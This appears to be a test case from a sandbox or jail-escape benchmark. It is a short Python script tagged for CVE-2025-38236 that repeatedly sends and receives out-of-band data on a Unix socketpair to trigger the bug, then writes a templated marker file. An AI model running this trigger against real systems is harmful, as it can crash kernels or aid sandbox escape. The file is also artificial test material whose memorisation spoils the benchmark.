# attack: jail/out-of-band
# oracle: crash
# imports: socket
# tools:
# source: own
# note: out-of-band data of Unix sockets (CVE-2025-38236)
import socket
a, b = socket.socketpair()
for _ in range(3):
    a.send(b"A", socket.MSG_OOB)
    b.recv(1, socket.MSG_OOB)
a.send(b"A", socket.MSG_OOB)
open("{{PWN_FILE}}", "w").close()
